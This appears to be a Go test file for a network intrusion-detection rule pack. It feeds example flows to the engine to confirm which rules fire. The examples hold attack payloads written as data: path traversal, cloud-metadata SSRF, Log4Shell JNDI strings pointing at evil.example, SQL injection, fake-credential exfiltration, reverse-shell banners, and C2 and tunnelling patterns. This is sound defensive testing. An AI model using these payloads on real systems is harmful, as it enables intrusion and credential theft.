package rules

import (
	"bufio"
	"encoding/base32"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/interdict/interdict/inspect"
	ir "github.com/interdict/interdict/inspect/rules"
	"github.com/interdict/interdict/tests/testenv"
)

// ruleCase is one sid's contract: the action it must take, flows that must
// fire it and nothing else in the pack, and near-misses that must not fire
// it.
type ruleCase struct {
	sid    uint32
	action inspect.Action
	pos    []example
	neg    []example
}

// Fake credentials in each provider's documented shape. None is real.
var (
	awsKey    = "AKIAQ3EGRSTUVWXYZ234"
	awsTmpKey = "ASIAZ7XKQ2MN4PLR6TUV"
	ghpToken  = "ghp_" + strings.Repeat("x7Kq", 9)
	ghFine    = "github_pat_" + strings.Repeat("A1b2", 5) + "C3_" + strings.Repeat("d4E5f", 11) + "G6h7"
	glToken   = "glpat-" + "Ab3_dE6-gH9jK2mN5pQ8"
	slackTok  = "xoxb-123456789012-1234567890123-" + "AbCdEfGhIjKlMnOpQrStUvWx"
	googleKey = "AIza" + "SyD3-" + strings.Repeat("q9Z_x", 6)
	stripeKey = "sk_live_" + strings.Repeat("4eC39HqLyjWDarjtT1zdp7dc", 1)
)

// b32label is a 40-character base32 label with digits, as tunnelling tools
// encode payload into DNS names.
var b32label = strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte("runner env: AWS_SECRET")))

func cases() []ruleCase {
	hex := "0123456789abcdef0123456789abcdef0123456789abcdef0"
	chrome := "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	b64 := "Cookie: " + "kHQ3Rk9pZXRlZ0lzbG9vcGhvbGUrYmVhY29uK21ldGFkYXRhK2Jsb2I0Mg8/xyZA=="
	return []ruleCase{
		// ---- exploit.rules: path traversal ----
		{sid: 9100001, action: inspect.ActionReject,
			pos: []example{tcp("dot-dot-slash", get("/v1/secrets/../../etc/passwd")), tcp("dot-dot-backslash", get(`/files/..\..\windows\win.ini`))},
			neg: []example{tcp("double dot in file name", get("/v1/secret/data/app..json")), tcp("single dot segment", get("/v1/./secrets"))}},
		{sid: 9100002, action: inspect.ActionReject,
			pos: []example{tcp("encoded dots", get("/v1/secrets/%2e%2e/%2e%2e/etc/passwd")), tcp("mixed dot and encoded dot", get("/v1/.%2E/token"))},
			neg: []example{tcp("one encoded dot in a name", get("/files/report%2ejson"))}},
		{sid: 9100003, action: inspect.ActionReject,
			pos: []example{tcp("encoded slash", get("/v1/secrets/..%2f..%2fetc%2fpasswd")), tcp("encoded backslash", get("/v1/..%5C..%5Cboot.ini"))},
			neg: []example{tcp("dots then encoded space", get("/search?q=wait..%20what"))}},
		{sid: 9100004, action: inspect.ActionReject,
			pos: []example{tcp("double-encoded dots", get("/download?file=%252e%252e%252fetc%252fpasswd")), tcp("double-encoded slash", get("/download?file=..%252f..%252fetc"))},
			neg: []example{tcp("encoded percent sign", get("/search?q=100%25%20sure"))}},
		{sid: 9100005, action: inspect.ActionReject,
			pos: []example{tcp("overlong dots", get("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"))},
			neg: []example{tcp("valid UTF-8", get("/img/%c3%a9t%c3%a9.png"))}},
		{sid: 9100006, action: inspect.ActionReject,
			pos: []example{tcp("path parameter", get("/api/read?path=/var/run/secrets/kubernetes.io/serviceaccount/token")),
				tcp("encoded path parameter", get("/api/read?path=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"))},
			neg: []example{tcp("documentation page", get("/docs/kubernetes-serviceaccount-tokens"))}},
		{sid: 9100007, action: inspect.ActionReject,
			pos: []example{tcp("self environ", get("/view?page=/proc/self/environ")), tcp("pid environ", get("/view?page=%2Fproc%2F1%2Fenviron"))},
			neg: []example{tcp("environment API", get("/api/environments/prod"))}},
		{sid: 9100008, action: inspect.ActionReject,
			pos: []example{tcp("aws credentials", get("/download?f=/home/runner/.aws/credentials")), tcp("git credentials", get("/download?f=%2Froot%2F.git-credentials"))},
			neg: []example{tcp("credentials API without dot directory", get("/api/aws/credentials/rotate"))}},
		{sid: 9100009, action: inspect.ActionReject,
			pos: []example{tcp("kubeconfig", get("/download?f=%2Froot%2F.kube%2Fconfig")), tcp("docker config", get("/download?f=/home/runner/.docker/config.json"))},
			neg: []example{tcp("config API", get("/api/kube/config"))}},

		// ---- exploit.rules: metadata service as target ----
		{sid: 9100020, action: inspect.ActionAlert,
			pos: []example{tcp("IMDSv1 credentials", get("/latest/meta-data/iam/security-credentials/", "Host: 169.254.169.254")),
				tcp("IMDSv1 over IPv6", get("/latest/user-data", "Host: [fd00:ec2::254]")),
				tcp("Host with port", get("/latest/meta-data/", "Host: 169.254.169.254:80")),
				tcp("absolute-form through a forward proxy", get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Host: proxy.internal:3128"))},
			neg: []example{tcp("IMDSv2 with session token", get("/latest/meta-data/iam/security-credentials/", "Host: 169.254.169.254", "X-aws-ec2-metadata-token: AQAEAGr3Ehc0DXJ1bm5lcl90b2tlbg==")),
				tcp("IMDSv2 token header in lower case", get("/latest/meta-data/", "Host: 169.254.169.254", "x-aws-ec2-metadata-token: AQAEAGr3Ehc0DXJ1bm5lcl90b2tlbg==")),
				tcp("same path on another host", get("/latest/meta-data/", "Host: docs.example.com"))}},
		{sid: 9100021, action: inspect.ActionAlert,
			pos: []example{tcp("no Metadata-Flavor", get("/computeMetadata/v1/instance/service-accounts/default/token", "Host: metadata.google.internal"))},
			neg: []example{tcp("with Metadata-Flavor", get("/computeMetadata/v1/instance/service-accounts/default/token", "Host: metadata.google.internal", "Metadata-Flavor: Google"))}},
		{sid: 9100022, action: inspect.ActionAlert,
			pos: []example{tcp("managed identity token", get("/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "Host: 169.254.169.254", "Metadata: true"))},
			neg: []example{tcp("without Metadata header", get("/metadata/identity/oauth2/token?api-version=2018-02-01", "Host: 169.254.169.254")),
				tcp("Metadata false", get("/metadata/identity/oauth2/token?api-version=2018-02-01", "Host: 169.254.169.254", "Metadata: false"))}},

		// ---- exploit.rules: metadata service in parameters and bodies ----
		{sid: 9100030, action: inspect.ActionReject,
			pos: []example{tcp("url parameter", get("/fetch?url=http://169.254.169.254/"))},
			neg: []example{tcp("other link-local address", get("/fetch?addr=169.254.169.1")), tcp("address in the path", get("/ip/169.254.169.254"))}},
		{sid: 9100031, action: inspect.ActionReject,
			pos: []example{tcp("decimal address", get("/fetch?url=http://2852039166/")), tcp("IPv4-mapped IPv6", get("/fetch?url=http://[::ffff:a9fe:a9fe]/"))},
			neg: []example{tcp("ordinary number", get("/orders?id=28520391"))}},
		{sid: 9100032, action: inspect.ActionReject,
			pos: []example{tcp("url parameter", get("/fetch?url=http://Metadata.Google.Internal/"))},
			neg: []example{tcp("partial name", get("/search?q=metadata.google"))}},
		{sid: 9100033, action: inspect.ActionReject,
			pos: []example{tcp("literal", get("/fetch?url=http://[fd00:ec2::254]/")), tcp("percent-encoded", get("/fetch?url=http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2F"))},
			neg: []example{tcp("neighbouring address", get("/fetch?url=http://[fd00:ec2::253]/"))}},
		{sid: 9100034, action: inspect.ActionReject,
			pos: []example{tcp("AWS path via rebinding name", get("/fetch?url=http://metadata.attacker.example/latest/meta-data/iam/")),
				tcp("GCP path encoded", get("/fetch?target=http%3A%2F%2Finternal%2FcomputeMetadata%2Fv1%2F")),
				tcp("Azure path", get("/proxy?u=http://imds/metadata/identity/oauth2/token"))},
			neg: []example{tcp("metadata path without a query", get("/latest/meta-data/", "Host: app.example.com"))}},
		{sid: 9100035, action: inspect.ActionReject,
			pos: []example{tcp("webhook URL in JSON", post("/api/webhooks", `{"url":"http://169.254.169.254/latest/meta-data/"}`, "Content-Type: application/json"))},
			neg: []example{tcp("other address", post("/api/webhooks", `{"url":"http://169.254.169.1/"}`, "Content-Type: application/json"))}},
		{sid: 9100036, action: inspect.ActionReject,
			pos: []example{tcp("callback in JSON", post("/api/webhooks", `{"callback":"http://metadata.google.internal/computeMetadata/v1/"}`, "Content-Type: application/json"))},
			neg: []example{tcp("partial name", post("/api/notes", `{"doc":"see metadata.google for details"}`, "Content-Type: application/json"))}},

		// ---- exploit.rules: JNDI ----
		{sid: 9100040, action: inspect.ActionReject,
			pos: []example{tcp("literal in query", get("/search?q=${jndi:ldap://203.0.113.5:1389/a}")), tcp("percent-encoded", get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"))},
			neg: []example{tcp("word in path", get("/docs/jndi-lookup-guide"))}},
		{sid: 9100041, action: inspect.ActionReject,
			pos: []example{tcp("custom header", get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}")), tcp("cookie", get("/", "Cookie: s=${JNDI:dns://evil.example/a}"))},
			neg: []example{tcp("word in header", get("/", "X-Note: jndi lookups disabled"))}},
		{sid: 9100042, action: inspect.ActionReject,
			pos: []example{tcp("form body", post("/search", "q=${jndi:rmi://203.0.113.5/a}")), tcp("encoded form body", post("/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"))},
			neg: []example{tcp("word in body", post("/search", "q=jndi+is+a+java+api"))}},
		{sid: 9100043, action: inspect.ActionReject,
			pos: []example{tcp("nested lower", get("/", "User-Agent: ${${lower:j}ndi:${lower:l}dap://x/a}")),
				tcp("default-value lookups", get("/", "X-Forwarded-For: ${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"))},
			neg: []example{tcp("template variable", get("/", "X-Template: ${user}"))}},
		{sid: 9100044, action: inspect.ActionReject,
			pos: []example{tcp("literal default-value lookup", get("/search?q=${::-j}${::-n}di")), tcp("literal nested lookup", get("/search?q=${${lower:j}ndi:ldap://x/a}"))},
			neg: []example{tcp("template variable", get("/render?tmpl=${name}"))}},
		{sid: 9100046, action: inspect.ActionReject,
			pos: []example{tcp("encoded nested lookup", get("/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D")), tcp("encoded default-value lookup", get("/search?q=%24%7b%3a%3a-j%7d"))},
			neg: []example{tcp("encoded template variable", get("/render?tmpl=%24%7Bname%7D"))}},
		{sid: 9100045, action: inspect.ActionReject,
			pos: []example{tcp("JSON body", post("/api/users", `{"name":"${${::-j}ndi:ldap://x/a}"}`, "Content-Type: application/json"))},
			neg: []example{tcp("template variable", post("/api/users", `{"tmpl":"${name}"}`, "Content-Type: application/json"))}},

		// ---- exploit.rules: SQL injection on token endpoints ----
		{sid: 9100050, action: inspect.ActionReject,
			pos: []example{tcp("password grant", post("/oauth/token", "grant_type=password&username=admin'+OR+1%3D1--&password=x")),
				tcp("JSON login", post("/api/v1/login", `{"user":"x' or 'a'='a","pass":"y"}`, "Content-Type: application/json"))},
			neg: []example{tcp("apostrophe in a name", post("/oauth/token", "grant_type=password&username=o'reilly&password=or+not")),
				tcp("same payload on a search endpoint", post("/api/search", "q=admin'+OR+1%3D1--"))}},
		{sid: 9100051, action: inspect.ActionReject,
			pos: []example{tcp("union select", post("/login", "user=x'+UNION+SELECT+password+FROM+users--&pass=y")),
				tcp("comment-separated", post("/token", "client_id=1/**/union/**/all/**/select/**/1"))},
			neg: []example{tcp("words in a field", post("/login", "user=bob&note=labor+union+selection"))}},
		{sid: 9100052, action: inspect.ActionReject,
			pos: []example{tcp("sleep", post("/oauth/token", "username=admin'+AND+SLEEP(5)--&password=x")),
				tcp("waitfor", post("/login", "user=x';WAITFOR+DELAY+'0:0:5'--"))},
			neg: []example{tcp("sleep without a number", post("/oauth/token", "username=sleepy&password=sleep(now)"))}},
		{sid: 9100053, action: inspect.ActionReject,
			pos: []example{tcp("tautology in query", get("/login?user=admin%27%20OR%201%3D1--")),
				tcp("union in query", get("/oauth/token?client_id=1+UNION+SELECT+secret+FROM+clients"))},
			neg: []example{tcp("apostrophe in a name", get("/login?next=%2Fdashboard&user=O%27Neil")),
				tcp("payload on another endpoint", get("/search?q=admin%27%20OR%201%3D1--"))}},

		// ---- secrets.rules: raw stream ----
		{sid: 9101001, action: inspect.ActionReject,
			pos: []example{tcp("shell export over a raw socket", "export AWS_ACCESS_KEY_ID="+awsKey+"\n"),
				tcp("second request on a keep-alive connection", get("/health")+get("/v1/sync", "X-Api-Key: "+awsKey)),
				tcp("SMTP message", "MAIL FROM:<ci@example.com>\r\nDATA\r\naws_access_key_id = "+awsKey+"\r\n.\r\n")},
			neg: []example{to(internalAddr, tcp("to an internal host", "export AWS_ACCESS_KEY_ID="+awsKey+"\n")),
				tcp("too short", "id=AKIAQ3EGRSTUVWXYZ2\n"), tcp("lower case", "id=AKIAq3egrstuvwxyz234\n")}},
		{sid: 9101002, action: inspect.ActionReject,
			pos: []example{tcp("redis SET", "*3\r\n$3\r\nSET\r\n$3\r\nkey\r\n$20\r\n"+awsTmpKey+"\r\n")},
			neg: []example{tcp("the word ASIA", "region=ASIA PACIFIC (SYDNEY)\n"), to(internalAddr, tcp("to an internal host", awsTmpKey+"\n"))}},
		{sid: 9101003, action: inspect.ActionReject,
			pos: []example{tcp("git credential line", "https://x:"+ghpToken+"@github.com\n"),
				tcp("HTTP Authorization header", get("/user", "Authorization: token "+ghpToken))},
			neg: []example{tcp("too short", "ghp_"+strings.Repeat("x7Kq", 8)+"\n"), to(internalAddr, tcp("to an internal host", ghpToken+"\n"))}},
		{sid: 9101004, action: inspect.ActionReject,
			pos: []example{tcp("raw", "GH_TOKEN="+ghFine+"\n")},
			neg: []example{tcp("missing separator", "GH_TOKEN=github_pat_"+strings.Repeat("A1b2", 20)+"\n")}},
		{sid: 9101005, action: inspect.ActionReject,
			pos: []example{tcp("raw", "PRIVATE-TOKEN: "+glToken+"\n")},
			neg: []example{tcp("too short", "PRIVATE-TOKEN: glpat-Ab3_dE6\n")}},
		{sid: 9101006, action: inspect.ActionReject,
			pos: []example{tcp("raw", "SLACK_TOKEN="+slackTok+"\n")},
			neg: []example{tcp("other letter", "SLACK_TOKEN=xoxz-123456789012-1234567890123-AbCdEfGhIjKl\n")}},
		{sid: 9101007, action: inspect.ActionReject,
			pos: []example{tcp("RSA key over netcat", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n"),
				tcp("OpenSSH key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n")},
			neg: []example{tcp("certificate", "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE\n"), tcp("PGP key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF\n")}},
		{sid: 9101008, action: inspect.ActionReject,
			pos: []example{tcp("raw", "GOOGLE_API_KEY="+googleKey+"\n")},
			neg: []example{tcp("too short", "GOOGLE_API_KEY=AIzaSyD3-q9Z\n")}},
		{sid: 9101009, action: inspect.ActionReject,
			pos: []example{tcp("raw", "STRIPE_KEY="+stripeKey+"\n")},
			neg: []example{tcp("test-mode key", "STRIPE_KEY=sk_test_4eC39HqLyjWDarjtT1zdp7dc\n")}},

		// ---- secrets.rules: de-chunked HTTP body (token split by chunk framing) ----
		{sid: 9101101, action: inspect.ActionReject,
			pos: []example{tcp("split key", chunkedPost("/upload", "id="+awsKey[:8], awsKey[8:]+"&x=1"))},
			neg: []example{to(internalAddr, tcp("to an internal host", chunkedPost("/upload", "id="+awsKey[:8], awsKey[8:]))), tcp("too short", chunkedPost("/upload", "id=AKIAQ3EG", "RSTUVW&x=1"))}},
		{sid: 9101102, action: inspect.ActionReject,
			pos: []example{tcp("split key", chunkedPost("/upload", "id="+awsTmpKey[:6], awsTmpKey[6:]))},
			neg: []example{tcp("the word ASIA", chunkedPost("/upload", "region=ASIA", "+PACIFIC"))}},
		{sid: 9101103, action: inspect.ActionReject,
			pos: []example{tcp("split token", chunkedPost("/gist", "token="+ghpToken[:10], ghpToken[10:]))},
			neg: []example{tcp("too short", chunkedPost("/gist", "token=ghp_x7Kq", "x7Kq"))}},
		{sid: 9101104, action: inspect.ActionReject,
			pos: []example{tcp("split token", chunkedPost("/gist", "token="+ghFine[:40], ghFine[40:]))},
			neg: []example{tcp("missing separator", chunkedPost("/gist", "token=github_pat_"+strings.Repeat("A1b2", 10), strings.Repeat("A1b2", 10)))}},
		{sid: 9101105, action: inspect.ActionReject,
			pos: []example{tcp("split token", chunkedPost("/api", "t="+glToken[:9], glToken[9:]))},
			neg: []example{tcp("too short", chunkedPost("/api", "t=glpat-", "Ab3"))}},
		{sid: 9101106, action: inspect.ActionReject,
			pos: []example{tcp("split token", chunkedPost("/api", "t="+slackTok[:12], slackTok[12:]))},
			neg: []example{tcp("other letter", chunkedPost("/api", "t=xoxz-1234", "56789012-1234567890123-AbCdEfGhIjKl"))}},
		{sid: 9101107, action: inspect.ActionReject,
			pos: []example{tcp("form-encoded key", post("/api/keys", "name=deploy&key=-----BEGIN+OPENSSH+PRIVATE+KEY-----%0Ab3BlbnNzaC1rZXktdjE")),
				tcp("split key header", chunkedPost("/api/keys", "key=-----BEGIN RSA PRI", "VATE KEY-----\nMIIE"))},
			neg: []example{tcp("form-encoded public key", post("/api/keys", "name=deploy&key=-----BEGIN+PUBLIC+KEY-----%0AMIIBIjAN"))}},
		{sid: 9101108, action: inspect.ActionReject,
			pos: []example{tcp("split key", chunkedPost("/api", "k="+googleKey[:7], googleKey[7:]))},
			neg: []example{tcp("too short", chunkedPost("/api", "k=AIza", "SyD3"))}},
		{sid: 9101109, action: inspect.ActionReject,
			pos: []example{tcp("split key", chunkedPost("/api", "k="+stripeKey[:12], stripeKey[12:]))},
			neg: []example{tcp("test-mode key", chunkedPost("/api", "k=sk_test_", "4eC39HqLyjWDarjtT1zdp7dc"))}},

		// ---- c2.rules ----
		{sid: 9102001, action: inspect.ActionAlert,
			pos: []example{tcp("beacon output", post("/submit.php?id=184467", "\x00\x00\x00\x30binarytaskoutput", "Content-Type: application/octet-stream"))},
			neg: []example{tcp("form upload to submit.php", post("/submit.php?id=184467", "name=x", "Content-Type: application/x-www-form-urlencoded")),
				tcp("non-numeric id", post("/submit.php?id=abc", "x", "Content-Type: application/octet-stream"))}},
		{sid: 9102002, action: inspect.ActionAlert,
			pos: []example{tcp("pixel.gif with bare base64 cookie", get("/pixel.gif", chrome, b64))},
			neg: []example{tcp("pixel.gif with analytics cookies", get("/pixel.gif", chrome, "Cookie: _ga=GA1.2.1234567890.1700000000; sid=abcdef0123456789abcdef0123456789")),
				tcp("base64 cookie on another path", get("/assets/app.js", chrome, b64))}},
		{sid: 9102003, action: inspect.ActionAlert,
			pos: []example{tcp("news.php with session blob", get("/news.php", chrome, "Cookie: session=dGhpcyBpcyBhIHN0YWdpbmcga2V5IGJsb2I="))},
			neg: []example{tcp("short session id", get("/news.php", chrome, "Cookie: session=abc123"))}},
		{sid: 9102004, action: inspect.ActionAlert,
			pos: []example{tcp("MSIE", get("/", "User-Agent: Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)"))},
			neg: []example{tcp("Edge", get("/", "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0")),
				to(internalAddr, tcp("to an internal host", get("/", "User-Agent: Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)")))}},
		{sid: 9102007, action: inspect.ActionAlert,
			pos: []example{tcp("IE11 Trident", get("/", "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"))},
			neg: []example{tcp("Trident in another header", get("/", "X-Engine: Trident/7.0"))}},
		{sid: 9102005, action: inspect.ActionDrop,
			pos: []example{tcp("cmd banner", "Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\runner>")},
			neg: []example{tcp("banner quoted in a log", "log: Microsoft Windows [Version 10.0.19045.3803]\r\n"),
				to(internalAddr, tcp("to an internal host", "Microsoft Windows [Version 10.0.19045.3803]\r\n"))}},
		{sid: 9102006, action: inspect.ActionDrop,
			pos: []example{tcp("bash -i", "bash: cannot set terminal process group (812): Inappropriate ioctl for device\nbash: no job control in this shell\nrunner@ci:~$ ")},
			neg: []example{tcp("phrase deep in an upload", "log="+strings.Repeat("x", 600)+"bash: no job control in this shell\n")}},
		{sid: 9102010, action: inspect.ActionAlert,
			pos: []example{udp("duckdns host", dnsQuery("c2.duckdns.org")), udp("no-ip host", dnsQuery("Beacon.Hopto.Org"))},
			neg: []example{udp("provider's own site", dnsQuery("duckdns.org")), udp("look-alike", dnsQuery("c2.notduckdns.org"))}},
		{sid: 9102011, action: inspect.ActionAlert,
			pos: []example{udp("ngrok", dnsQuery("abcd-203-0-113-5.ngrok-free.app")), udp("cloudflare quick tunnel", dnsQuery("tired-owl-blue.trycloudflare.com"))},
			neg: []example{udp("vendor site", dnsQuery("ngrok.com"))}},
		{sid: 9102012, action: inspect.ActionAlert,
			pos: []example{udp("base32 label", dnsQuery(b32label+".t.example.net"))},
			neg: []example{udp("hex label", dnsQuery("0123456789abcdef0123456789abcdef01234567.cdn.example.net")),
				udp("letters only", dnsQuery("abcdefghijklmnopqrstuvwxyzabcdefghijklmn.example.net"))}},
		{sid: 9102013, action: inspect.ActionAlert,
			pos: []example{udp("long hex name", dnsQuery(hex+"."+hex+"."+hex+"."+hex+".x.example.net"))},
			neg: []example{udp("long but under 180", dnsQuery(hex+"."+hex+"."+hex+".example.net"))}},
		{sid: 9102014, action: inspect.ActionAlert,
			pos: []example{udp("interactsh", dnsQuery("c3v2x8qplm0000.oast.fun")), udp("dnslog", dnsQuery("abc.dnslog.cn"))},
			neg: []example{udp("look-alike", dnsQuery("toast.fun")), udp("suffix elsewhere", dnsQuery("oast.fun.example.com"))}},
		{sid: 9102020, action: inspect.ActionAlert,
			pos: []example{tlsFlow("pastebin", "pastebin.com"), tlsFlow("subdomain", "api.paste.ee")},
			neg: []example{tlsFlow("look-alike", "notpastebin.com")}},
		{sid: 9102021, action: inspect.ActionAlert,
			pos: []example{tlsFlow("transfer.sh", "transfer.sh"), tlsFlow("catbox subdomain", "litterbox.catbox.moe")},
			neg: []example{tlsFlow("longer TLD", "transfer.shop")}},
		{sid: 9102022, action: inspect.ActionAlert,
			pos: []example{tlsFlow("webhook.site", "webhook.site"), tlsFlow("interactsh", "c3v2x8q.oast.pro")},
			neg: []example{tlsFlow("look-alike", "mywebhook.site")}},
		{sid: 9102023, action: inspect.ActionAlert,
			pos: []example{tlsFlow("ngrok", "abcd-203-0-113-5.ngrok-free.app")},
			neg: []example{tlsFlow("vendor site", "ngrok.com")}},

		// ---- scanner.rules ----
		{sid: 9103001, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/?id=1", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"))},
			neg: []example{tcp("look-alike", get("/", "User-Agent: my-sqlmapper/2.0")), tcp("in Referer", get("/", "Referer: https://sqlmap.org/"))}},
		{sid: 9103002, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/", "User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"))},
			neg: []example{tcp("in path", get("/nikto/"))}},
		{sid: 9103003, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/", "User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"))},
			neg: []example{tcp("template updater", get("/", "User-Agent: nuclei-templates-updater/1.0"))}},
		{sid: 9103004, action: inspect.ActionAlert,
			pos: []example{tcp("banner grab", get("/", "User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"))},
			neg: []example{tcp("in Referer", get("/", "Referer: https://github.com/robertdavidgraham/masscan"))}},
		{sid: 9103005, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/", "User-Agent: Mozilla/5.0 zgrab/0.x"))},
			neg: []example{tcp("look-alike", get("/", "User-Agent: zgrabber-client/1.0"))}},
		{sid: 9103006, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/admin", "User-Agent: gobuster/3.6"))},
			neg: []example{tcp("in path", get("/gobuster/"))}},
		{sid: 9103007, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/FUZZ", "User-Agent: Fuzz Faster U Fool v2.1.0-dev"))},
			neg: []example{tcp("in path", get("/tools/ffuf"))}},
		{sid: 9103008, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/wp-login.php", "User-Agent: WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))},
			neg: []example{tcp("in Referer", get("/", "Referer: https://wpscan.com/"))}},
		{sid: 9103009, action: inspect.ActionAlert,
			pos: []example{tcp("http-title script", get("/", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))},
			neg: []example{tcp("parser library", get("/", "User-Agent: nmap-parser/1.0"))}},
		{sid: 9103010, action: inspect.ActionAlert,
			pos: []example{tcp("default", get("/backup", "User-Agent: feroxbuster/2.10.1"))},
			neg: []example{tcp("not first", get("/", "User-Agent: x-feroxbuster/2"))}},
	}
}

// TestRuleExamples feeds each example through the engine. A positive must
// fire exactly its sid (with the action the table states, which is the one
// the file documents) whether the bytes come in one read or in 7-byte
// reads; a negative must not fire its sid.
func TestRuleExamples(t *testing.T) {
	p := loadPack(t)
	for _, rc := range cases() {
		t.Run(fmt.Sprint(rc.sid), func(t *testing.T) {
			require.NotEmpty(t, rc.pos, "sid %d needs a positive example", rc.sid)
			require.NotEmpty(t, rc.neg, "sid %d needs a negative example", rc.sid)
			for _, ex := range rc.pos {
				t.Run("pos/"+ex.name, func(t *testing.T) {
					for _, split := range []int{0, 7} {
						got := run(p.engine, ex, split)
						assert.Equal(t, []int{int(rc.sid)}, got.list(), "split %d", split)
						assert.Equal(t, rc.action, got.action, "split %d", split)
						assert.Equal(t, ex.wantApp(), got.app, "split %d: parsed as", split)
					}
				})
			}
			for _, ex := range rc.neg {
				t.Run("neg/"+ex.name, func(t *testing.T) {
					for _, split := range []int{0, 7} {
						got := run(p.engine, ex, split)
						assert.NotContains(t, got.list(), int(rc.sid), "split %d", split)
						assert.Equal(t, ex.wantApp(), got.app, "split %d: parsed as", split)
					}
				})
			}
		})
	}
}

// TestSecretsRawAndBodyOverlap pins what secrets.rules documents: an
// unchunked HTTP body carrying a credential fires both the raw-stream rule
// and the HTTP body rule, and the flow is rejected (the client gets a RST).
func TestSecretsRawAndBodyOverlap(t *testing.T) {
	p := loadPack(t)
	for _, tc := range []struct {
		name  string
		token string
		want  []int
	}{
		{"aws key", awsKey, []int{9101001, 9101101}},
		{"github token", ghpToken, []int{9101003, 9101103}},
		{"stripe key", stripeKey, []int{9101009, 9101109}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := run(p.engine, tcp(tc.name, post("/upload", "k="+tc.token+"&x=1")), 0)
			assert.Equal(t, tc.want, got.list())
			assert.Equal(t, inspect.ActionReject, got.action)
		})
	}
}

// TestEverySIDHasExamples fails when a rule is added without a table entry
// (or an entry outlives its rule).
func TestEverySIDHasExamples(t *testing.T) {
	p := loadPack(t)
	inPack := map[uint32]bool{}
	for _, r := range p.set.Rules {
		inPack[r.Info.SID] = true
	}
	inTable := map[uint32]bool{}
	for _, rc := range cases() {
		assert.False(t, inTable[rc.sid], "sid %d listed twice in the table", rc.sid)
		inTable[rc.sid] = true
		assert.True(t, inPack[rc.sid], "sid %d has examples but no rule", rc.sid)
	}
	for sid := range inPack {
		assert.True(t, inTable[sid], "sid %d has no examples", sid)
	}
}

// TestPackLoadsWithoutRejections: every rule line in every file loads in
// inspect/rules (with the pack's classification, so an unknown classtype
// is an error) and compiles in the engine.
func TestPackLoadsWithoutRejections(t *testing.T) {
	p := loadPack(t)
	for _, e := range p.set.Errors {
		t.Errorf("rejected by the loader: %v", e)
	}
	for _, e := range p.engine.Rejected() {
		t.Errorf("rejected by the engine: %v", e)
	}
	require.Len(t, p.set.Files, len(RuleFiles()))
	total := 0
	for _, fc := range p.set.Files {
		lines := ruleLines(t, fc.File)
		assert.Equal(t, lines, fc.Loaded, "%s: every rule line loads", fc.File)
		assert.Zero(t, fc.Rejected, fc.File)
		assert.Positive(t, fc.Loaded, fc.File)
		total += fc.Loaded
	}
	assert.Equal(t, total, p.engine.Rules())
}

// ruleLines counts the non-comment lines of an embedded file.
func ruleLines(t *testing.T, name string) int {
	f, err := Files.Open(name)
	require.NoError(t, err)
	defer f.Close()
	n := 0
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 64<<10), 1<<20)
	for sc.Scan() {
		l := strings.TrimSpace(sc.Text())
		if l != "" && !strings.HasPrefix(l, "#") {
			n++
		}
	}
	require.NoError(t, sc.Err())
	return n
}

// fileRanges are each file's private sid ranges.
var fileRanges = map[string][2]uint32{
	"exploit.rules": {9100000, 9100999},
	"secrets.rules": {9101000, 9101999},
	"c2.rules":      {9102000, 9102999},
	"scanner.rules": {9103000, 9103999},
}

// fileActions is each file's documented actions: a client whose request
// is refused gets a RST at once (a CI job fails with a clear error instead
// of hanging until its timeout); only a C2 beacon is answered with silence.
var fileActions = map[string][]inspect.Action{
	"exploit.rules": {inspect.ActionReject, inspect.ActionAlert},
	"secrets.rules": {inspect.ActionReject},
	"c2.rules":      {inspect.ActionDrop, inspect.ActionAlert},
	"scanner.rules": {inspect.ActionAlert},
}

// TestPackConventions checks what operators and the EVE output rely on:
// unique sids in the file's range, a rev, the INTERDICT prefix, a known
// classtype, metadata with created_at and category, an action the file's
// header allows (reject or alert for exploits and secrets, drop or alert
